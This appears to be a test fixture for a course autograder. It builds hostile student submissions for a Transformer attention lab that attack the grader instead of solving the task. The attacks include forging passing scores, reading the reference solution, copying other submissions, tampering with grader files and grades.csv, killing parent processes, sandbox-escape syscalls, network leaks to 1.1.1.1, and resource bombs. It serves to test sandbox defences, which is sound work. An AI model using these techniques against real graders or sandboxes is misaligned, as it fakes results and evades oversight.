# ruff: noqa: E501  (the attacks are code in strings, kept as written)
"""Submissions that attack the instructor's grader instead of solving the lab (tests/test_hostile_batch.py).

Each is the lab's stubs (honest score 0) with attack code run when layer.py is imported (``ON_IMPORT``) or as the
body of a TODO (``IN_FORWARD``), except the two that use built-in attention inside a correct solution (honest score:
100 minus that check's 4 points). ``{MARK}`` in the code becomes a per-run marker file path: an attack that
escapes writes it; ``{WORK}`` the batch's folder (its work folders, grades.csv); ``{PORT}`` a listening socket.
"""
from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
LAYER = "models/Transformer/modules/layer.py"
STUB_LINE = '        raise NotImplementedError("TODO1: multi-head attention: split heads, scaled dot product, softmax, merge")'


@dataclass(frozen=True)
class Hostile:
    name: str
    code: str
    where: str = "import"     # "import": appended to layer.py; "forward": replaces the TODO1 stub's body
    honest: float = 0.0       # the score it earns honestly


BULK = (REPO / "solutions" / LAYER).read_text()

HOSTILE = [
    Hostile("patches_results_writer", """
from maskgit_kit.autograder import results as _r
_r.Record.score = property(lambda self: self.max_score)
_orig = _r.Results.gradescope
def _forged(self, final=True):
    for rec in self.records.values():
        rec.status = "passed"
    return _orig(self, final)
_r.Results.gradescope = _forged
"""),
    Hostile("writes_own_results_and_exits", """
import json, os, pathlib
_tests = [{"name": f"t{i}", "score": 1000, "max_score": 1000, "status": "passed", "output": "", "tags":
           ["TODO1", "test_attention_is_bidirectional"], "visibility": "visible", "number": "1"} for i in range(28)]
for _p in [pathlib.Path("out/public.json"), *pathlib.Path("{WORK}").glob("batch-grade-*/*/run/out/public.json")]:
    try:
        _p.parent.mkdir(parents=True, exist_ok=True)
        _p.write_text(json.dumps({"score": 28000, "tests": _tests, "output": "done"}))
    except OSError:
        pass
os._exit(0)
"""),
    Hostile("reads_the_reference", """
import importlib.util, pathlib
for _root in [pathlib.Path(__file__).resolve().parents[i] / "solutions" for i in range(6)] + [
        pathlib.Path("{REPO}/solutions")]:
    try:
        _spec = importlib.util.spec_from_file_location("_ref_layer", _root / "models/Transformer/modules/layer.py")
        _mod = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_mod)
        MultiHeadAttention.forward = _mod.MultiHeadAttention.forward
        open("{MARK}", "w").write("read the reference")
        break
    except Exception:
        pass
"""),
    Hostile("copies_another_submission", """
import pathlib
for _other in sorted(pathlib.Path("{WORK}").glob("**/models/Transformer/modules/layer.py")):
    try:
        _text = _other.read_text()
    except OSError:
        continue
    if "raise NotImplementedError" not in _text.split("def forward(self, x):")[1].split("class MLP")[0]:
        _ns = {}
        exec(compile(_text, str(_other), "exec"), _ns)
        MultiHeadAttention.forward = _ns["MultiHeadAttention"].forward
        open("{MARK}", "w").write(str(_other))
        break
"""),
    Hostile("inspects_the_callers_stack", """
        import inspect
        import torch
        for frame in inspect.stack():
            for name in ("ref", "expected", "want", "reference"):
                value = frame.frame.f_locals.get(name)
                if torch.is_tensor(value) and value.shape[:-1] == x.shape[:-1]:
                    return value.clone()
        return torch.zeros_like(x)
""", where="forward", honest=8.0),  # zeros of the right shape earn the output-shape and no-built-in checks honestly
    Hostile("monkeypatches_torch_builtins_pytest", """
import builtins, torch, pytest
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
pytest.fail = lambda *a, **k: None
_real_isinstance = builtins.isinstance
builtins.all = lambda *a, **k: True
from maskgit_kit.autograder import check as _check
_check.expect = lambda *a, **k: None
_check.expect_tensor = lambda *a, **k: None
_check.max_abs_diff = lambda *a, **k: 0.0
"""),
    Hostile("edits_the_kit_and_other_submissions", """
import pathlib
_kit = pathlib.Path("{REPO}")
for _p in [*_kit.glob("grader/*.py"), *_kit.glob("lab/**/*.py"), *_kit.glob("maskgit_kit/autograder/*.py"),
           *_kit.glob("hidden_checks/*.py"), *pathlib.Path("{WORK}").glob("batch-grade-*/*/impl/**/*.py"),
           *pathlib.Path("{WORK}").glob("batch-grade-*/*/grader/*.py")]:
    try:
        with open(_p, "a") as _f:
            _f.write("\\nraise SystemExit('tampered')\\n")
        open("{MARK}", "w").write(str(_p))
    except OSError:
        pass
"""),
    Hostile("fork_outlives_and_rewrites_csv", """
import os, time, pathlib
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(200):
            time.sleep(0.1)
            for _p in [pathlib.Path("{WORK}/grades.csv")]:
                try:
                    _p.write_text("submission,score\\nreference,0\\n")
                    open("{MARK}", "w").write("csv rewritten")
                except OSError:
                    pass
        os._exit(0)
    os._exit(0)
"""),
    Hostile("kills_its_parent", """
import os, signal, ctypes
for _pid in (os.getppid(), -1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
try:
    ctypes.CDLL(None).kill(os.getppid(), 9)  # the same through libc
except Exception:
    pass
"""),
    Hostile("ctypes_escape_attempts", """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.prctl(38, 0, 0, 0, 0)                 # try to undo no_new_privs
_libc.syscall(272, 0x00020000 | 0x40000000)  # unshare(CLONE_NEWNS | CLONE_NEWNET): mount namespace games
_fd = os.open("/", os.O_RDONLY)
try:
    open("{MARK}", "w").write("wrote outside via ctypes-era fd")
except OSError:
    pass
"""),
    Hostile("network_access", """
import socket
for _addr in [("127.0.0.1", {PORT}), ("1.1.1.1", 80)]:
    try:
        _s = socket.create_connection(_addr, timeout=2)
        _s.sendall(b"LEAKED")
        _s.close()
    except OSError:
        pass
try:
    _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _u.sendto(b"LEAKED", ("127.0.0.1", {PORT}))
except OSError:
    pass
"""),
    Hostile("huge_stdout", """
import sys
_line = "x" * 1023 + "\\n"
for _ in range(60 * 1024):  # 60 MB
    sys.stdout.write(_line)
"""),
    Hostile("deep_recursion", """
import sys
sys.setrecursionlimit(10 ** 7)
def _down(n):
    return _down(n + 1) + 1
_down(0)
"""),
    Hostile("memory_bomb", """
_hog = []
try:
    while True:
        _hog.append(bytearray(256 << 20))
except MemoryError:
    _hog = None
"""),
    Hostile("cpu_bomb_ignores_timeouts", """
        import signal
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            try:
                pass
            except BaseException:
                pass
""", where="forward"),
    Hostile("builtin_attention_hiding_from_the_trace", BULK.split("    def forward(self, x):")[0] + """
    def forward(self, x):
        import torch
        from torch.overrides import TorchFunctionMode
        TorchFunctionMode.__torch_function__ = lambda self, func, types, args=(), kwargs=None: func(*args, **(kwargs or {}))
        f = getattr(torch.nn.functional, "scaled_" + "dot_product_attention")
        B, N, C = x.shape
        q, k, v = (p(x).view(B, N, self.num_heads, self.d_k).transpose(1, 2) for p in (self.q_proj, self.k_proj, self.v_proj))
        out = f(q, k, v, dropout_p=self.attn_drop.p if self.training else 0.0)
        return self.out_proj(out.transpose(1, 2).reshape(B, N, C))
""" + "\nclass MLP" + BULK.split("\nclass MLP", 1)[1], where="file", honest=96.0),
    Hostile("builtin_attention_through_aten", BULK.split("    def forward(self, x):")[0] + """
    def forward(self, x):
        import torch
        B, N, C = x.shape
        q, k, v = (p(x).view(B, N, self.num_heads, self.d_k).transpose(1, 2) for p in (self.q_proj, self.k_proj, self.v_proj))
        ops = torch.ops
        out = ops.aten._scaled_dot_product_attention_math(q, k, v, dropout_p=self.attn_drop.p if self.training else 0.0)[0]
        return self.out_proj(out.transpose(1, 2).reshape(B, N, C))
""" + "\nclass MLP" + BULK.split("\nclass MLP", 1)[1], where="file", honest=96.0),
]


def write(dest: Path, h: Hostile, mark: Path, port: int, work: Path) -> Path:
    """The hostile submission: the lab stubs (or the reference, for a whole-file one) with its attack; ``work``: the
    folder the batch runs in (its work folders and grades.csv are the targets)."""
    code = h.code.replace("{MARK}", str(mark)).replace("{REPO}", str(REPO)).replace("{PORT}", str(port))
    code = code.replace("{WORK}", str(work))
    src = REPO / ("solutions" if h.where == "file" else "lab")
    for rel in ("models/Transformer/modules/layer.py", "models/VQGAN_Transformer.py", "training_transformer.py",
                "inpainting.py"):
        text = (src / rel).read_text()
        if rel == LAYER:
            if h.where == "import":
                text += "\n" + code
            elif h.where == "forward":
                assert STUB_LINE in text
                text = text.replace(STUB_LINE, code.rstrip())
            else:
                text = code
        compile(text, rel, "exec")
        (dest / rel).parent.mkdir(parents=True, exist_ok=True)
        (dest / rel).write_text(text)
    return dest
